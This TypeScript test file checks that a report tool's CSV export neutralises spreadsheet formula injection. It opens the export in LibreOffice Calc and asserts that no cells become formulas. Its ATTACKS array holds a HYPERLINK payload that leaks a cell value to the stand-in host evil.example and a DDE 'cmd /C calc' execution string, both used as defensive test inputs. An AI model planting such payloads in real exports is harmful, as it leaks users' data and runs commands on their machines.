// CSV formula injection: text from reports or corrections that a spreadsheet would run as a
// formula (=, +, -, @, tab, CR first) is written with a leading apostrophe. Checked by opening
// the export in a real spreadsheet (LibreOffice Calc converts the CSV as a user opening it
// would, then exceljs reads the cells): no formula, the text visible as text, numbers — negative
// ones too — still numbers. A control CSV without the guard shows the reader does see formulas.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvToXlsx } from '../samples/lib/soffice.ts';
import { emptyFields, type Extraction } from '../src/contract.ts';
import { neutraliseFormula, renderCsv } from '../src/consolidate/format.ts';
import { consolidate, type ConsolidatedTable } from '../src/consolidate/table.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/leak?"&A1,"Bấm vào đây")';
const ATTACKS = [HYPERLINK, '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=2+2'];

function report(commune: string, head: string | null, leader: string | null, population: number | null, budget: number | null): Extraction {
  const f = emptyFields();
  f.unit.commune = commune;
  f.unit.communeKind = 'xã';
  f.unit.district = 'Hiệp Hòa';
  f.steeringCommittee.head = head;
  f.supportTeam.leader = leader;
  f.profile.population = population;
  f.budget.planned.total = budget;
  return { source: { file: `${commune}.docx`, sha256: '0'.repeat(64), format: 'docx' }, ...f, flags: [], provenance: {} } as Extraction;
}

let dir: string;
let table: ConsolidatedTable;
let cells: Map<string, ExcelJS.Cell>;
let control: ExcelJS.Cell[];

async function openInCalc(name: string, csv: string): Promise<ExcelJS.Worksheet> {
  const file = path.join(dir, `${name}.csv`);
  await writeFile(file, csv, 'utf8');
  // The separator the export uses (',' or, for Excel under Vietnamese settings, ';').
  const header = csv.split('\n')[0]!;
  const separator = header.split(';').length > header.split(',').length ? ';' : ',';
  const [xlsx] = await csvToXlsx([file], dir, { separator });
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(xlsx!);
  return book.worksheets[0]!;
}

const allCells = (ws: ExcelJS.Worksheet) => {
  const out: ExcelJS.Cell[] = [];
  ws.eachRow((row) => row.eachCell((c) => out.push(c)));
  return out;
};

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'baocao-csv-'));
  table = consolidate('2024-H1', [
    { reportId: 1, flagCount: 0, extraction: report('Đông Lỗ', ATTACKS[0]!, ATTACKS[1]!, 17128, -5) },
    { reportId: 2, flagCount: 0, extraction: report('Mai Đình', ATTACKS[2]!, ATTACKS[3]!, 9541, 12.5) },
    { reportId: 3, flagCount: 0, extraction: report('Hương Lâm', ATTACKS[4]!, ATTACKS[5]!, null, null) },
    { reportId: 4, flagCount: 0, extraction: report('Thái Sơn', 'Nguyễn Văn A', '-', 1, 0) },
  ]);
  const csv = renderCsv(table);
  const ws = await openInCalc('export', csv.startsWith('\ufeff') ? csv : `\ufeff${csv}`);
  cells = new Map(allCells(ws).map((c) => [c.address, c]));
  // The same rows written without the guard: Calc must show formulas there.
  const naive = [HYPERLINK, '=1+1'].map((s) => `"${s.replace(/"/g, '""')}"`).join(',');
  control = allCells(await openInCalc('control', `a,b\n${naive}\n`));
}, 180_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('CSV export opened in a spreadsheet', () => {
  it('the reader does see formulas in a CSV without the guard (control)', () => {
    expect(control.filter((c) => c.type === ExcelJS.ValueType.Formula).length).toBe(2);
  });

  it('has no formula anywhere', () => {
    const formulas = [...cells.values()].filter((c) => c.type === ExcelJS.ValueType.Formula || (c.value as { formula?: string } | null)?.formula);
    expect(formulas.map((c) => `${c.address}: ${JSON.stringify(c.value)}`)).toEqual([]);
  });

  it('shows each attack as text, with the apostrophe in front', () => {
    // (Calc keeps a quoted CR as a line break.)
    const lines = (s: string) => s.replace(/\r\n?/g, '\n');
    const texts = [...cells.values()].filter((c) => typeof c.value === 'string').map((c) => lines(c.value as string));
    for (const a of ATTACKS) expect(texts, JSON.stringify(a)).toContain(lines(`'${a}`));
  });

  it('keeps numbers numeric, negative ones included', () => {
    const numbers = [...cells.values()].filter((c) => c.type === ExcelJS.ValueType.Number).map((c) => c.value);
    expect(numbers).toEqual(expect.arrayContaining([17128, 9541, -5, 12.5]));
  });
});

describe('neutraliseFormula', () => {
  it('prefixes text starting with = + - @ tab or CR, and nothing else', () => {
    for (const s of ['=A1', '+1', '-1', '@x', '\tx', '\rx']) expect(neutraliseFormula(s)).toBe(`'${s}`);
    for (const s of ['xã Đông Lỗ', '17128', '', ' =1', "'=1", 'a=b']) expect(neutraliseFormula(s)).toBe(s);
  });
});
